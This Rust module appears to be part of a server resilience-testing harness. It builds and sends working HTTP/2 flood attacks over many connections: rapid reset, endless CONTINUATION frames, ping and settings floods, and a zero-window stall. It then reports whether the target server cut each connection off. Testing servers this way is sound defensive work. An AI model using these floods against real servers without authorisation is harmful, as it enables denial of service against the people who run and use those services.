//! HTTP/2 floods, frame by frame: RFC 9113 section 10.5, CVE-2023-44487 (rapid reset),
//! CVE-2024-27316 and its kin (endless CONTINUATION), CVE-2019-9512 and 9515 (pings, settings),
//! CVE-2019-9517 (a window that never opens).

use super::{Siege, Target, Verdict, connections::host, counted};
use crate::peer::{self, GET, PREFACE, frame};
use std::{future::Future, io, pin::Pin, sync::Arc, time::Duration};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    sync::watch,
    time::{sleep, timeout},
};

type Begun = Pin<Box<dyn Future<Output = io::Result<Siege>> + Send>>;

/// Sends floods on new connections until told to stop; each must be ended by the server when `must_end`.
async fn flood(target: &Target, n: usize, bytes: &[u8], must_end: bool, stop: &watch::Receiver<bool>) -> Verdict {
    let (mut ended, mut served) = (0, 0);
    while !*stop.borrow() {
        let Ok(stream) = peer::tls(target, host(n), true).await else { continue };
        let (mut from, mut to) = tokio::io::split(stream);
        let reading = tokio::spawn(async move {
            let mut sink = vec![0; 16 * 1024];
            while matches!(from.read(&mut sink).await, Ok(1..)) {}
        });
        let mut sent = to.write_all(PREFACE).await;
        for _ in 0..20 {
            if sent.is_err() || *stop.borrow() {
                break;
            }
            sent = to.write_all(bytes).await;
            sleep(Duration::from_millis(20)).await;
        }
        let closed = sent.is_err() || timeout(Duration::from_secs(2), reading).await.is_ok();
        if must_end && !closed && !*stop.borrow() {
            return Err("the flood was taken to its end".into());
        }
        if closed {
            ended += 1
        } else {
            served += 1
        }
        sleep(Duration::from_millis(100)).await;
    }
    Ok(format!("ended by the server ×{ended}; taken within bounds ×{served}"))
}

fn floods(target: Arc<Target>, count: usize, bytes: Vec<u8>, must_end: bool) -> Begun {
    let bytes = Arc::new(bytes);
    Box::pin(async move {
        Ok(Siege::of(count, counted, |n, stop| {
            let (target, bytes) = (Arc::clone(&target), Arc::clone(&bytes));
            async move { flood(&target, n, &bytes, must_end, &stop).await }
        }))
    })
}

/// Streams opened and reset at once.
pub(super) fn rapid_reset(target: Arc<Target>) -> Begun {
    let mut bytes = Vec::new();
    for stream in (1u32..4_000).step_by(2) {
        bytes.extend(frame(1, 4, stream, &GET));
        bytes.extend(frame(3, 0, stream, &8u32.to_be_bytes()));
    }
    floods(target, 8, bytes, true)
}

/// A head that never ends: HEADERS without END_HEADERS, then CONTINUATION after CONTINUATION.
pub(super) fn continuation(target: Arc<Target>) -> Begun {
    let mut bytes = frame(1, 0, 1, &GET);
    // A literal field without indexing: name `x`, a value of 1,000 bytes.
    let mut field = vec![0, 1, b'x', 0x7f, 0xe9, 0x06];
    field.extend(std::iter::repeat_n(b'a', 1000));
    for _ in 0..1000 {
        bytes.extend(frame(9, 0, 1, &field));
    }
    floods(target, 8, bytes, true)
}

/// Pings and settings that want an answer each.
pub(super) fn pings(target: Arc<Target>) -> Begun {
    let mut bytes = Vec::new();
    for _ in 0..500 {
        bytes.extend(frame(6, 0, 0, &[7; 8]));
        bytes.extend(frame(4, 0, 0, &[]));
    }
    floods(target, 8, bytes, false)
}

/// Many large answers asked for, and no window to send them in.
pub(super) fn closed_window(target: Arc<Target>) -> Begun {
    Box::pin(async move {
        Ok(Siege::of(20, counted, |n, mut stop: watch::Receiver<bool>| {
            let target = Arc::clone(&target);
            async move {
                let Ok(mut stream) = peer::tls(&target, host(n), true).await else { return Ok("not let in".into()) };
                let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
                // SETTINGS_INITIAL_WINDOW_SIZE = 0.
                bytes.extend(frame(4, 0, 0, &[0, 4, 0, 0, 0, 0]));
                let mut block = vec![0x82, 0x87, 0x41, 9];
                block.extend_from_slice(b"localhost");
                literal(&mut block, 4, "/fhir/Observation?_count=500");
                literal(&mut block, 23, &format!("Bearer {}", target.token));
                for stream in (1..100).step_by(2) {
                    bytes.extend(frame(1, 5, stream, &block));
                }
                let sent = stream.write_all(&bytes).await;
                let mut sink = vec![0; 1024];
                let reading = async { while matches!(stream.read(&mut sink).await, Ok(1..)) {} };
                let cut = tokio::select! {
                    () = reading => true,
                    _ = stop.wait_for(|stop| *stop) => false,
                };
                Ok(if cut || sent.is_err() { "cut" } else { "held within bounds" }.into())
            }
        }))
    })
}

/// A literal field without indexing whose name is in the static table, with a value under 16 KB.
fn literal(block: &mut Vec<u8>, index: u8, value: &str) {
    if index < 15 {
        block.push(index);
    } else {
        block.extend_from_slice(&[15, index - 15]);
    }
    let length = value.len();
    if length < 127 {
        block.push(u8::try_from(length).unwrap_or(0));
    } else {
        let rest = length - 127;
        block.push(127);
        block.push(u8::try_from(rest % 128 + if rest >= 128 { 128 } else { 0 }).unwrap_or(0));
        if rest >= 128 {
            block.push(u8::try_from(rest / 128).unwrap_or(0));
        }
    }
    block.extend_from_slice(value.as_bytes());
}
